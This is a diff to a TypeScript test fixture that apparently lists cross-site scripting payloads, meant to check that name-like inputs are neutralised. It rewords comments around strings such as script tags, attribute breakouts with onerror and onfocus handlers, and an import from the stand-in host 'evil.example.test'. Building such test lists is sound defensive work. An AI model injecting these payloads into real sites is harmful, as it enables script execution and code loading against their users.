@@ -4,9 +4,9 @@ export const foreignHost = 'evil.example.test'
 const load = `//${foreignHost}/x`
 
 /**
- * Texts that run `alert`, or load from `foreignHost`, where they are taken for HTML, for an address or for a template. One
- * of each way that the evasion sheets of OWASP and html5sec list and that a browser of today might still go; each is a line
- * that may be somebody's name.
+ * Texts that run `alert`, or load from `foreignHost`, if they are interpreted as HTML, as an address or as a template.
+ * There is one for each technique in the evasion lists of OWASP and html5sec that may still work in a current browser.
+ * Each is a single line that could be a name.
  */
 export const scriptAttempts: readonly string[] = [
   // Elements that are scripts, whole, broken or hidden from a filter that takes words out.
@@ -20,7 +20,7 @@ export const scriptAttempts: readonly string[] = [
   `<script>import('${load}')</script>`,
   '<script type=module>alert(1)</script>',
 
-  // Ways out of where a text may stand.
+  // Attempts to break out of the context of a text.
   '"><script>alert(1)</script>',
   "'><img src=x onerror=alert(1)>",
   '" autofocus onfocus=alert(1) x="',
